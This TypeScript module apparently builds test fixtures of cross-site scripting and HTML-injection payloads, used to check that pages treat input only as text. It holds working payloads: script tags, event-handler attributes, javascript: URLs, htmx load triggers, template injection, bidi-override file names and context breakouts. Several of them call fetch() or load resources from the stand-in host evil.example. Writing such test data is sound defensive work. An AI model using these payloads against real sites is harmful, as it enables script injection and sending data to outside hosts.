/** Two hundred texts that would run, load or disturb something if a page took them for more than text. */

/** Code that would be noticed: it writes to the console and asks another host. */
const CODE = 'console.log(`HOSTILE`),fetch(`//evil.example/x`)';

/** Elements that run code, by themselves or when somebody follows them. */
const RUNNING = [
  '<script>CODE</script>',
  '<img src=x onerror="CODE">',
  '<svg onload="CODE">',
  '<svg><script>CODE</script></svg>',
  '<iframe srcdoc="<script>CODE</script>">',
  '<details open ontoggle="CODE">',
  '<input autofocus onfocus="CODE">',
  '<video><source onerror="CODE"></video>',
  '<math><mtext><style><img src=x onerror="CODE">',
  '<a href="javascript:CODE" autofocus>x</a>',
  '<form action="//evil.example/x"><button autofocus>x</button></form>',
  '<button hx-get="//evil.example/x" hx-trigger="load">x</button>',
  '<div hx-on::load="CODE" hx-trigger="load">x</div>',
];

/** Elements that load something from another host, or change how a page looks. */
const LOADING = [
  '<link rel=stylesheet href="//evil.example/x.css">',
  '<style>@import "//evil.example/x.css";*{display:none}</style>',
  '<img src="//evil.example/x.png">',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '<div style="background:url(//evil.example/x);position:fixed;inset:0">',
];

/** Ways out of the places in which texts stand: elements, attributes, comments, scripts, styles, choices. */
const WAYS_OUT = [
  ...['', '">', "'>", '</textarea>', '</title>', '-->', '</script>', '</style>', '</noscript>'],
  '</option></select>',
];

/** Texts that are no elements: they end attributes, are decoded twice, turn the direction, or are very long or no text at all. */
const OTHERS = [
  '\u202Egnp.exe\u202C',
  '\u2066\u2067\u2068\u200F\u061C',
  '😀'.repeat(2_000),
  '{{constructor.constructor("CODE")()}}',
  '$' + '{CODE}',
  '&lt;script&gt;CODE&lt;/script&gt;',
  '\u0000<script>CODE</script>',
  '%3Cscript%3ECODE%3C/script%3E',
  'javascript:CODE',
  '" autofocus onfocus="CODE" x="',
];

const withCode = (payload: string) => payload.replaceAll('CODE', CODE);

/** The payloads that are elements. */
export const ELEMENTS: readonly string[] = WAYS_OUT.flatMap((out) =>
  [...RUNNING, ...LOADING].map((element) => withCode(out + element)),
);

export const PAYLOADS: readonly string[] = [...ELEMENTS, ...OTHERS.map(withCode)];

/** Texts of at most 200 characters, for what is never longer, which together have the payloads that fit. No line of text has NUL. */
export const SHORT_PAYLOADS: readonly string[] = pack(
  PAYLOADS.filter((payload) => payload.length < 150 && !payload.includes('\u0000')),
  190,
);

function pack(texts: readonly string[], maxCharacters: number): string[] {
  const packed: string[] = [];
  for (const text of texts) {
    const last = packed.at(-1);
    if (last !== undefined && last.length + text.length < maxCharacters)
      packed[packed.length - 1] = `${last} ${text}`;
    else packed.push(text);
  }
  return packed;
}

/** All payloads in one text. */
export const ALL_PAYLOADS = PAYLOADS.join(' ');

/** All payloads in several texts, for what a browser has to lay out. */
export const SOME_PAYLOADS: readonly string[] = pack([...PAYLOADS], 2_000);
